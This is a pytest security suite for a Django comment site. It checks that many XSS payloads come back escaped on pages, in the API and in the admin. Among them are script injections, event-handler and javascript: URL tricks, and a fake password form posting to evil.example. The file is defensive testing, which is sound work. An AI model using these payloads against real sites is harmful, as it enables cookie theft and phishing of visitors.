"""Classic XSS payloads, posted as a guest's name, website and body through the HTML form and
the API, must never come back as something a browser would run: not on the thread page, the
partial fragment, the subtree page, the history page, the edit page, the API JSON, or the
Django admin. Pages are parsed with html.parser (tests/security/pages.py), not searched.
"""

from __future__ import annotations

import json
import re
from dataclasses import dataclass

import pytest
from django.test import Client
from django.utils.html import escape

from tests.security.pages import assert_safe, assert_safe_fragment, dangerous_url, scan

pytestmark = pytest.mark.django_db

PAYLOADS = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "'><script>alert(document.cookie)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<svg><script>alert(1)</script></svg>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    '<IMG SRC="jav\tascript:alert(1);" onerror="alert(2)">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    '<a href="#" onclick="alert(1)">click</a>',
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    # script URLs in Markdown links and autolinks
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click]( javascript:alert(1) )",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "[ref]\n\n[ref]: javascript:alert(1)",
    '[click](https://example.org "title\\" onmouseover=\\"alert(1)")',
    "![img](javascript:alert(1))",
    '![img](https://example.org/x.png" onerror="alert(1))',
    # HTML entities and escaped / unicode variants
    "[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[click](&#x6A;avascript&colon;alert(1))",
    "[click](java&#09;script:alert(1))",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112'
    '&#0000116&#0000058alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "https://example.org/?q=<script>alert(1)</script>",
    # CSS, frames, forms, base, meta refresh
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%">covered</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<form action="https://evil.example/steal"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
]
assert len(PAYLOADS) >= 25

# Addresses that pass the website check yet carry markup or script words.
ACCEPTED_WEBSITES = [
    'https://example.org/"><script>alert(1)</script>',
    "https://example.org/'onmouseover='alert(1)'",
    'example.org/"onfocus="alert(1)"autofocus="',
    "https://example.org/?next=javascript:alert(1)",
    "https://example.org/#<svg/onload=alert(1)>",
]
REFUSED_WEBSITES = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript://example.org/%0Aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "ftp://example.org/",
]


def _id(payload: str) -> str:
    return re.sub(r"\W+", "-", payload)[:40].strip("-") or "payload"


def guest_name(payload: str) -> str:
    """What the site stores as the name: control characters out, trimmed, at most 80."""
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", "", payload)[:80].strip()


@dataclass
class Posted:
    pk: int
    name: str
    website: str
    body: str
    via: str
    client: Client
    edit_token: str = ""


@pytest.fixture
def superuser(django_user_model):
    return django_user_model.objects.create_superuser("root", "root@example.org", "root-pass-1234")


@pytest.fixture
def admin_browser(superuser):
    browser = Client()
    assert browser.login(username="root", password="root-pass-1234")
    return browser


def shown(name: str) -> str:
    """Names are stored on one line: runs of whitespace become one space."""
    return " ".join(name.split())


def post_by_form(thread, payload: str, *, website: str) -> Posted:
    browser = Client()
    url = f"/posts/{thread.post.slug}/comments/"
    name = guest_name(payload)
    response = browser.post(url, {"name": name, "website": website, "body": payload})
    if response.status_code == 400 and "The website must be" in response.content.decode():
        website = ""
        response = browser.post(url, {"name": name, "website": website, "body": payload})
    assert response.status_code == 302, response.content.decode()[:2000]
    pk = int(re.fullmatch(r"/c/(\d+)/", response["Location"])[1])
    return Posted(pk, shown(name), website, payload, "form", browser)


def post_by_api(thread, payload: str, *, website: str) -> Posted:
    browser = Client()
    url = f"/api/v1/threads/{thread.pk}/comments"

    def send(site: str):
        return browser.post(
            url,
            data=json.dumps({"name": guest_name(payload), "website": site, "body": payload}),
            content_type="application/json",
        )

    response = send(website)
    if response.status_code == 400 and response.json().get("field") == "website":
        website = ""
        response = send(website)
    assert response.status_code == 201, response.content
    data = response.json()
    return Posted(
        data["id"], shown(guest_name(payload)), website, payload, "api", browser, data["edit_token"]
    )


def assert_name_shown_as_text(page, name: str, where: str) -> None:
    shown = [e.text for e in page.with_class("author")]
    assert name in shown, f"{where}: the name {name!r} is not shown as text; authors: {shown}"


def assert_json_safe(data, where: str) -> None:
    """Every HTML string in an API answer is safe markup; every website an http(s) address."""
    comments = data.get("comments", [data]) if isinstance(data, dict) else data
    for item in comments:
        assert_safe_fragment(item["body_html"], f"{where} body_html")
        if "author" in item and item["author"]["website"]:
            assert item["author"]["website"].startswith(("https://", "http://")), item
            assert not dangerous_url(item["author"]["website"])


def check_api(thread, posted: Posted, browser: Client) -> None:
    for url in (
        f"/api/v1/threads/{thread.pk}/comments",
        f"/api/v1/comments/{posted.pk}",
        f"/api/v1/comments/{posted.pk}/revisions",
    ):
        response = browser.get(url)
        assert response.status_code == 200
        assert response["Content-Type"].startswith("application/json"), url
        assert response["X-Content-Type-Options"] == "nosniff", url
        assert_json_safe(response.json(), url)
    detail = browser.get(f"/api/v1/comments/{posted.pk}").json()
    assert detail["author"]["name"] == posted.name, "the API returns the name as data, unchanged"


def check_pages(thread, posted: Posted, admin: Client) -> None:
    slug = thread.post.slug
    reader = Client()
    pages = {
        "thread page": reader.get(f"/posts/{slug}/"),
        "thread page, sorted": reader.get(f"/posts/{slug}/?sort=newest"),
        "thread page as the poster": posted.client.get(f"/posts/{slug}/"),
        "thread page as a superuser": admin.get(f"/posts/{slug}/"),
        "partial fragment": reader.get(f"/posts/{slug}/?partial=1"),
        "subtree page": reader.get(f"/posts/{slug}/comments/{posted.pk}/"),
        "history page": reader.get(f"/c/{posted.pk}/history/"),
        "reply link page": reader.get(f"/posts/{slug}/?reply={posted.pk}"),
        "quote link page": reader.get(f"/posts/{slug}/?quote=c{posted.pk}"),
    }
    for where, response in pages.items():
        assert response.status_code == 200, where
        page = assert_safe(response.content, f"{posted.via}: {where}")
        html = response.content.decode()
        if where != "history page":
            assert_name_shown_as_text(page, posted.name, where)
            assert escape(posted.name) in html, f"{where}: the name is not escaped"
        else:
            assert posted.name in page.all_text
        if posted.website and where != "history page":
            links = [e for e in page.with_class("author") if e.tag == "a"]
            assert [e.attrs["href"] for e in links if e.attrs["href"].startswith("https://")], where
    # ?reply= and ?quote= fill the form from the comment: the name and words stay text
    page = scan(pages["reply link page"].content)
    assert [e.text for e in page.with_class("replying-to")] == [posted.name]
    [textarea] = scan(pages["quote link page"].content).find("textarea", name="body")
    assert textarea.text.startswith(f":::quote comment {posted.pk}\n")
    # the edit page puts the body in a textarea: it must come back as text, whole
    if posted.via == "form":
        edit = posted.client.get(f"/c/{posted.pk}/edit/")
    else:
        edit = admin.get(f"/c/{posted.pk}/edit/")
    assert edit.status_code == 200
    page = assert_safe(edit.content, f"{posted.via}: edit page")
    [textarea] = page.find("textarea", name="body")
    assert textarea.text.replace("\r\n", "\n") == re.sub("\x00", "", posted.body + " (edited)")


def check_admin(posted: Posted, admin: Client) -> None:
    listing = admin.get("/admin/discussion/comment/")
    assert listing.status_code == 200
    page = assert_safe(listing.content, "admin comment list")
    cells = [e.text for e in page.with_class("field-author_name")]
    assert posted.name in cells, "the admin list shows the name as text"
    assert escape(posted.name) in listing.content.decode()

    search = admin.get("/admin/discussion/comment/", {"q": posted.name[:40]})
    assert search.status_code == 200
    assert_safe(search.content, "admin comment search")

    change = admin.get(f"/admin/discussion/comment/{posted.pk}/change/")
    assert change.status_code == 200
    page = assert_safe(change.content, "admin comment change page")
    # The author's name is shown read-only (changes go through the actions), as text.
    assert posted.name in [e.text.strip() for e in page.with_class("readonly")]
    [body] = page.find("textarea", name="body")
    assert posted.body.replace("\x00", "") + " (edited)" in body.text.replace("\r\n", "\n")


@pytest.mark.parametrize("payload", PAYLOADS, ids=[_id(p) for p in PAYLOADS])
def test_payload_as_name_website_and_body_never_runs(thread, payload, admin_browser, no_rate_limit):
    by_form = post_by_form(thread, payload, website=payload)
    by_api = post_by_api(thread, payload, website=payload)
    for posted in (by_form, by_api):
        # an edit, so the history page shows the payload twice (earlier and current)
        if posted.via == "form":
            response = posted.client.post(
                f"/c/{posted.pk}/edit/", {"body": posted.body + " (edited)"}
            )
            assert response.status_code == 302, response.content.decode()[:2000]
        else:
            response = posted.client.patch(
                f"/api/v1/comments/{posted.pk}",
                data=json.dumps({"body": posted.body + " (edited)"}),
                content_type="application/json",
                headers={"X-Edit-Token": posted.edit_token},
            )
            assert response.status_code == 200, response.content
        check_pages(thread, posted, admin_browser)
        check_api(thread, posted, Client())
        check_admin(posted, admin_browser)


@pytest.mark.parametrize("website", ACCEPTED_WEBSITES)
def test_website_with_markup_is_kept_inside_the_href(thread, website, admin_browser, no_rate_limit):
    for posted in (
        post_by_form(thread, "Jo Web", website=website),
        post_by_api(thread, "Jo Web", website=website),
    ):
        assert posted.website == website, f"{website!r} should pass the website check"
        expected = website if "://" in website else "https://" + website
        page = assert_safe(
            Client().get(f"/posts/{thread.post.slug}/").content, f"{posted.via}: thread page"
        )
        hrefs = [e.attrs["href"] for e in page.with_class("author") if e.tag == "a"]
        assert expected in hrefs, "the address is one whole href"
        # the admin shows the address as a link too, URL-quoted
        change = admin_browser.get(f"/admin/discussion/comment/{posted.pk}/change/")
        page = assert_safe(change.content, f"{posted.via}: admin change page")
        hrefs = [
            e.attrs["href"]
            for e in page.elements
            if e.tag == "a" and e.attrs.get("href", "").startswith("https://example.org/")
        ]
        assert hrefs, "the admin links to the address"
        api = Client().get(f"/api/v1/comments/{posted.pk}").json()
        assert api["author"]["website"] == expected


@pytest.mark.parametrize("website", REFUSED_WEBSITES)
def test_script_and_data_websites_are_refused(client, thread, website):
    from parley.discussion.models import Comment

    form = client.post(
        f"/posts/{thread.post.slug}/comments/", {"name": "Jo", "website": website, "body": "Hello."}
    )
    assert form.status_code == 400
    assert "The website must be an http or https address" in form.content.decode()
    api = client.post(
        f"/api/v1/threads/{thread.pk}/comments",
        data=json.dumps({"name": "Jo", "website": website, "body": "Hello."}),
        content_type="application/json",
    )
    assert api.status_code == 400
    assert api.json()["field"] == "website"
    assert Comment.objects.count() == 0


ACCOUNT_NAMES = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "</title><svg onload=alert(1)>",
    "[Rosa](javascript:alert(1))",
    "&lt;b&gt;Rosa&lt;/b&gt; &#60;script&#62;",
]


@pytest.mark.parametrize("display_name", ACCOUNT_NAMES, ids=[_id(p) for p in ACCOUNT_NAMES])
def test_account_display_name_never_runs(thread, rosa, display_name, admin_browser):
    """A reader's display name is set on the account page and shown on every comment."""
    browser = Client()
    browser.force_login(rosa)
    saved = browser.post(
        "/account/",
        {
            "display_name": display_name,
            "email": "",
            "website": "https://rosa.example.org/",
            "timezone": "",
        },
    )
    assert saved.status_code == 302, saved.content.decode()[:2000]
    response = browser.post(
        f"/api/v1/threads/{thread.pk}/comments",
        data=json.dumps({"body": f"Signed: {display_name}"}),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    pk = response.json()["id"]
    assert response.json()["author"]["name"] == display_name
    for where, url, viewer in (
        ("thread page", f"/posts/{thread.post.slug}/", Client()),
        ("own thread page", f"/posts/{thread.post.slug}/", browser),
        ("account page", "/account/", browser),
        ("subtree page", f"/posts/{thread.post.slug}/comments/{pk}/", Client()),
        ("history page", f"/c/{pk}/history/", Client()),
        ("admin list", "/admin/discussion/comment/", admin_browser),
        ("admin user list", "/admin/accounts/user/", admin_browser),
    ):
        got = viewer.get(url)
        assert got.status_code == 200, where
        page = assert_safe(got.content, where)
        assert display_name in page.all_text or any(
            e.attrs.get("value") == display_name for e in page.find("input")
        ), where
    assert_json_safe(Client().get(f"/api/v1/comments/{pk}").json(), "API comment")


QUOTABLE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</blockquote><script>alert(1)</script>",
    "</p></blockquote><iframe src=javascript:alert(1)>",
]


@pytest.mark.parametrize("words", QUOTABLE, ids=[_id(p) for p in QUOTABLE])
def test_payload_inside_a_quote_excerpt_and_its_header(
    client, thread, words, admin_browser, no_rate_limit
):
    """The quoted comment's author name and the excerpt are both written into the quote block."""
    source = post_by_api(thread, f"Said: {words} and more.", website="")
    body = f":::quote comment {source.pk}\n{words}\n:::\n\nThat is what {words} said."
    response = client.post(
        f"/api/v1/threads/{thread.pk}/comments",
        data=json.dumps({"name": "Quoter", "body": body}),
        content_type="application/json",
        REMOTE_ADDR="203.0.113.9",
    )
    assert response.status_code == 201, response.content
    data = response.json()
    assert data["quotes"][0]["excerpt"] == words, "the excerpt is data, kept as written"
    fragment = assert_safe_fragment(data["body_html"], "API body_html with a quote")
    [quote] = fragment.find("blockquote")
    assert words in quote.text and source.name in quote.text

    for url in (
        f"/posts/{thread.post.slug}/",
        f"/posts/{thread.post.slug}/?partial=1",
        f"/posts/{thread.post.slug}/comments/{data['id']}/",
        f"/c/{data['id']}/history/",
    ):
        page = assert_safe(Client().get(url).content, url)
        assert any(words in e.text for e in page.find("blockquote")), url
    assert_safe(
        admin_browser.get(f"/admin/discussion/comment/{data['id']}/change/").content,
        "admin change page",
    )


def test_payload_in_a_document_quote_and_around_it(client, thread, no_rate_limit):
    body = (
        ":::quote document letter\nwill reopen on Monday at noon\n:::\n\n"
        '<script>alert(1)</script> "><img src=x onerror=alert(1)>'
    )
    response = client.post(
        f"/api/v1/threads/{thread.pk}/comments",
        data=json.dumps({"name": '"><svg onload=alert(1)>', "body": body}),
        content_type="application/json",
    )
    assert response.status_code == 201, response.content
    assert_safe_fragment(response.json()["body_html"], "API body_html")
    assert_safe(Client().get(f"/posts/{thread.post.slug}/").content, "thread page")


MENTION_BODIES = [
    "@Ana <script>alert(1)</script>",
    '@Ana"><img src=x onerror=alert(1)>',
    "@Ana [x](javascript:alert(1))",
    "[@Ana](javascript:alert(1))",
    "<a href=javascript:alert(1)>@Ana</a>",
    "@Ana' onmouseover='alert(1)",
    "**@Ana** <svg onload=alert(1)>",
]


@pytest.mark.parametrize("body", MENTION_BODIES, ids=[_id(p) for p in MENTION_BODIES])
def test_payload_around_an_at_mention(thread, body, no_rate_limit):
    ana = post_by_api(thread, "Ana", website="")
    reply = post_by_api(thread, body, website="")
    html = Client().get(f"/api/v1/comments/{reply.pk}").json()["body_html"]
    fragment = assert_safe_fragment(html, "API body_html with a mention")
    for element in fragment.find("a"):
        assert not dangerous_url(element.attrs.get("href", ""))
    if body.startswith("@Ana"):
        assert fragment.find("a", href=f"/c/{ana.pk}/", class_="mention"), html
    for url in (
        f"/posts/{thread.post.slug}/",
        f"/posts/{thread.post.slug}/?partial=1",
        f"/posts/{thread.post.slug}/comments/{reply.pk}/",
    ):
        assert_safe(Client().get(url).content, url)


def test_mention_of_a_guest_whose_name_has_quotes_and_dots(thread, no_rate_limit):
    """Names with ' and . can be mentioned; they go into the link's text, never its attributes."""
    target = post_by_api(thread, "O'Hara.Jr", website="")
    reply = post_by_api(thread, "@O'Hara.Jr onmouseover=alert(1)", website="")
    html = Client().get(f"/api/v1/comments/{reply.pk}").json()["body_html"]
    fragment = assert_safe_fragment(html, "API body_html")
    [link] = fragment.find("a", class_="mention")
    assert link.attrs["href"] == f"/c/{target.pk}/"
    assert link.text == "@O'Hara.Jr"


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        '<script src="https://evil.example/x.js"></script>',
        '<script src="/static/parley/parley.js">alert(1)</script>',
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href=" JaVa\tScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<iframe src="/"></iframe>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
        '<form action="https://evil.example/"></form>',
        '<p style="color:red">x</p>',
    ],
)
def test_the_scanner_finds_what_would_run(html):
    """The checks above are only as good as the scanner: it must see each of these."""
    assert scan(f"<p>before</p>{html}<p>after</p>").problems, html


def test_the_scanner_accepts_escaped_text_and_the_sites_own_script():
    page = scan(
        '<script src="/static/parley/parley.js" defer></script>'
        '<p data-author="&lt;img src=x onerror=alert(1)&gt;">'
        "&lt;script&gt;alert(1)&lt;/script&gt; onload=alert(1)</p>"
        '<a href="https://example.org/?q=javascript:alert(1)">x</a>'
    )
    assert page.problems == []
    assert "<script>alert(1)</script>" in page.all_text
